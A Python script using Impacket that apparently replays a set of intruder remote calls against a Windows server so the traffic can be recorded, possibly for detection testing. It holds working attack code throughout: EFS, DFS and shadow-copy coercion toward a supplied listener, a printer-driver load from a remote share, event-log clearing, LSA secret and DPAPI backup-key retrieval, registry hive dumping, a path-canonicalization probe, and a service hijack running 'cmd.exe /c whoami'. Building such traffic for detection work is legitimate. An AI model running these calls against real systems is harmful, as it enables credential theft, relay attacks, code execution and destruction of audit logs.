#!/usr/bin/python3
"""One remote call that an intruder makes: calls.py CALL SERVER USER PASSWORD [ARGUMENT], over a named pipe, with Impacket's client.

Where the server does not know the interface, refuses the call or says that it is not done, that is printed and all is well: what was
asked is in the recording. ARGUMENT is a listener, a path or a name, as the call wants.
"""
import struct
import sys

from impacket.dcerpc.v5 import bkrp, even, lsad, nrpc, rprn, rrp, scmr, srvs, transport, tsch, wkst
from impacket.dcerpc.v5.dtypes import DWORD, LONG, NULL, WSTR, LPWSTR
from impacket.dcerpc.v5.ndr import NDRCALL
from impacket.uuid import uuidtup_to_bin

call, server, user, password = sys.argv[1:5]
argument = sys.argv[5] if len(sys.argv) > 5 else ""
third = "\\\\%s\\share\\file\0" % argument


class EfsRpcOpenFileRaw(NDRCALL):
    opnum = 0
    structure = (("FileName", WSTR), ("Flags", LONG))


class EfsRpcEncryptFileSrv(NDRCALL):
    opnum = 4
    structure = (("FileName", WSTR),)


class NetrDfsAddStdRoot(NDRCALL):
    opnum = 12
    structure = (("ServerName", WSTR), ("RootShare", WSTR), ("Comment", WSTR), ("ApiFlags", DWORD))


class NetrDfsRemoveStdRoot(NDRCALL):
    opnum = 13
    structure = (("ServerName", WSTR), ("RootShare", WSTR), ("ApiFlags", DWORD))


class IsPathSupported(NDRCALL):
    opnum = 8
    structure = (("ShareName", WSTR),)


class IsPathShadowCopied(NDRCALL):
    opnum = 9
    structure = (("ShareName", WSTR),)


class DsrEnumerateDomainTrusts(NDRCALL):
    opnum = 40
    structure = (("ServerName", LPWSTR), ("Flags", DWORD))


class Answer(NDRCALL):
    structure = ()


for asked in (EfsRpcOpenFileRaw, EfsRpcEncryptFileSrv, NetrDfsAddStdRoot, NetrDfsRemoveStdRoot, IsPathSupported, IsPathShadowCopied):
    globals()[asked.__name__ + "Response"] = type(asked.__name__ + "Response", (Answer,), {})

EFS = uuidtup_to_bin(("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0"))
DFS = uuidtup_to_bin(("4fc742e0-4a10-11cf-8273-00aa004ae673", "3.0"))
FSRVP = uuidtup_to_bin(("a8e0653c-2744-4389-a61d-7373df8b2292", "1.0"))


def connect(pipe, interface):
    binding = transport.DCERPCTransportFactory("ncacn_np:%s[\\pipe\\%s]" % (server, pipe))
    binding.set_credentials(user, password)
    client = binding.get_dce_rpc()
    client.connect()
    client.bind(interface)
    return client


def ask(client, request, **fields):
    for name, value in fields.items():
        request[name] = value
    try:
        client.call(request.opnum, request)
        print(request.__class__.__name__, client.recv().hex()[:64])
    except Exception as refused:
        print(request.__class__.__name__, refused)


def efs():
    for pipe in ("lsarpc", "efsrpc"):
        try:
            client = connect(pipe, EFS)
        except Exception as refused:
            print(pipe, refused)
            continue
        ask(client, EfsRpcOpenFileRaw(), FileName=third, Flags=0)
        ask(client, EfsRpcEncryptFileSrv(), FileName=third)


def dfs():
    ask(connect("netdfs", DFS), NetrDfsRemoveStdRoot(), ServerName=argument + "\0", RootShare="share\0", ApiFlags=1)
    ask(connect("netdfs", DFS), NetrDfsAddStdRoot(), ServerName=argument + "\0", RootShare="share\0", Comment="\0", ApiFlags=0)


def shadow():
    client = connect("FssagentRpc", FSRVP)
    ask(client, IsPathSupported(), ShareName=third)
    ask(client, IsPathShadowCopied(), ShareName=third)


def eventlog_backup():
    request = even.ElfrOpenBELW()
    request["UNCServerName"] = NULL
    request["BackupFileName"] = "\\??\\UNC\\%s\\share\\log" % argument
    request["MajorVersion"] = request["MinorVersion"] = 1
    ask(connect("eventlog", even.MSRPC_UUID_EVEN), request)


def eventlog_read():
    client = connect("eventlog", even.MSRPC_UUID_EVEN)
    handle = even.hElfrOpenELW(client, argument + "\0", "\0")["LogHandle"]
    for each in (even.hElfrNumberOfRecords, even.hElfrOldestRecordNumber):
        try:
            each(client, handle)
        except Exception as refused:
            print(refused)


def eventlog_clear():
    client = connect("eventlog", even.MSRPC_UUID_EVEN)
    handle = even.hElfrOpenELW(client, argument + "\0", "\0")["LogHandle"]
    request = even.ElfrClearELFW()
    ask(client, request, LogHandle=handle, BackupFileName=NULL)


def printer_driver():
    client = connect("spoolss", rprn.MSRPC_UUID_RPRN)
    container = rprn.DRIVER_CONTAINER()
    container["Level"] = 2
    container["DriverInfo"]["tag"] = 2
    info = container["DriverInfo"]["Level2"]
    info["cVersion"] = 3
    info["pName"] = "Ward\0"
    info["pEnvironment"] = "Windows x64\0"
    info["pDriverPath"] = "C:\\Windows\\System32\\DriverStore\\UNIDRV.DLL\0"
    info["pDataFile"] = "\\??\\UNC\\%s\\share\\ward.dll\0" % argument
    info["pConfigFile"] = "C:\\Windows\\System32\\winhttp.dll\0"
    try:
        print(rprn.hRpcAddPrinterDriverEx(client, pName=NULL, pDriverContainer=container, dwFileCopyFlags=0x8014).dump())
    except Exception as refused:
        print(refused)


def lsa_secret():
    client = connect("lsarpc", lsad.MSRPC_UUID_LSAD)
    policy = lsad.hLsarOpenPolicy2(client, 0x02000000)["PolicyHandle"]
    for name in ("G$BCKUPKEY_PREFERRED", "G$BCKUPKEY_P", argument or "_SC_ward"):
        try:
            print(name, len(lsad.hLsarRetrievePrivateData(client, policy, name)))
        except Exception as refused:
            print(name, refused)


def backup_key():
    client = connect("protected_storage", bkrp.MSRPC_UUID_BKRP)
    request = bkrp.BackuprKey()
    request["pguidActionAgent"] = bkrp.BACKUPKEY_RETRIEVE_BACKUP_KEY_GUID
    request["pDataIn"] = NULL
    request["cbDataIn"] = 0
    request["dwParam"] = 0
    ask(client, request)


def trusts():
    client = connect("netlogon", nrpc.MSRPC_UUID_NRPC)
    ask(client, DsrEnumerateDomainTrusts(), ServerName="\\\\%s\0" % server, Flags=0x3F)


def sessions():
    client = connect("srvsvc", srvs.MSRPC_UUID_SRVS)
    for level in (10, 502):
        try:
            srvs.hNetrSessionEnum(client, NULL, NULL, level)
        except Exception as refused:
            print(refused)
    try:
        wkst.hNetrWkstaUserEnum(connect("wkssvc", wkst.MSRPC_UUID_WKST), 1)
    except Exception as refused:
        print(refused)


def path_check():
    """As its exploits marshal it: Impacket itself leaves out the pointer of an empty server name."""

    def wide(text):
        count = len(text) + 1
        raw = (text + "\0").encode("utf-16le")
        return struct.pack("<III", count, 0, count) + raw + b"\0" * (-len(raw) % 4)

    client = connect("srvsvc", srvs.MSRPC_UUID_SRVS)
    name = struct.pack("<I", 0x20000) + wide(server)
    for path in ("\\AAAAAAAAAA\\..\\n", "\\A\\..\\..\\" + "B" * 40):
        for number, stub in (
            (32, name + wide(path) + wide("\\n") + struct.pack("<II", 1, 0)),
            (31, name + wide(path) + struct.pack("<I", 1000) + wide("") + struct.pack("<II", 0, 1)),
        ):
            client.call(number, stub)
            try:
                client.recv()
            except Exception as refused:
                print(refused)


def save_hives():
    client = connect("winreg", rrp.MSRPC_UUID_RRP)
    root = rrp.hOpenLocalMachine(client)["phKey"]
    for hive in ("SYSTEM", "SOFTWARE"):
        key = rrp.hBaseRegOpenKey(client, root, hive, dwOptions=rrp.REG_OPTION_BACKUP_RESTORE)["phkResult"]
        try:
            rrp.hBaseRegSaveKey(client, key, "C:%s\\%s.tmp\0" % (argument.replace("/", "\\"), hive))
        except Exception as refused:
            print(hive, refused)


def hijack_service():
    client = connect("svcctl", scmr.MSRPC_UUID_SCMR)
    manager = scmr.hROpenSCManagerW(client)["lpScHandle"]
    service = scmr.hROpenServiceW(client, manager, argument + "\0")["lpServiceHandle"]
    for each in (
        lambda: scmr.hRChangeServiceConfigW(client, service, lpBinaryPathName="cmd.exe /c whoami > C:\\Windows\\Temp\\w.txt\0"),
        lambda: scmr.hRStartServiceW(client, service),
    ):
        try:
            each()
        except Exception as refused:
            print(refused)


CALLS = (efs, dfs, shadow, eventlog_backup, eventlog_read, eventlog_clear, printer_driver, lsa_secret, backup_key, trusts, sessions)
CALLS += (path_check, save_hives, hijack_service)
try:
    {each.__name__.replace("_", "-"): each for each in CALLS}[call]()
except KeyError:
    sys.exit("no such call: " + call)
except Exception as refused:
    print(refused)
